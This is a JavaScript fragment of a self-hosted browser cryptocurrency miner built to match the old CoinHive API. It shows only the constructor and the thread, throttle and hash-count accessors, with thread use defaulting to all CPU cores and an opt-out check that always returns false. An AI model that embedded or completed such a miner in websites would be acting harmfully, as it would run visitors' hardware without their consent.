/* self-hosted web miner, API compatible with the former CoinHive lib */
var Miner = function (siteKey, params) {
  params = params || {};
  this._siteKey = siteKey;
  this._throttle = Math.max(0, Math.min(0.99, params.throttle || 0));
  this._targetNumThreads = params.threads || navigator.hardwareConcurrency || 4;
  this._autoThreads = { enabled: !!params.autoThreads, interval: null, adjustAt: null };
  this._totalHashes = 0;
  this._acceptedHashes = 0;
  this._threads = [];
};
Miner.prototype.hasWASMSupport = function () { return window.WebAssembly !== undefined; };
Miner.prototype.getHashesPerSecond = function () {
  var hps = 0;
  for (var i = 0; i < this._threads.length; i++) hps += this._threads[i].hashesPerSecond;
  return hps;
};
Miner.prototype.getTotalHashes = function () { return this._totalHashes; };
Miner.prototype.getAcceptedHashes = function () { return this._acceptedHashes; };
Miner.prototype.getNumThreads = function () { return this._targetNumThreads; };
Miner.prototype.setNumThreads = function (n) { this._targetNumThreads = Math.max(1, n | 0); };
Miner.prototype.setThrottle = function (t) { this._throttle = Math.max(0, Math.min(0.99, t)); };
Miner.prototype.getThrottle = function () { return this._throttle; };
Miner.prototype.setAutoThreadsEnabled = function (e) { this._autoThreads.enabled = !!e; };
Miner.prototype.getAutoThreadsEnabled = function () { return this._autoThreads.enabled; };
Miner.prototype.didOptOut = function () { return false; };
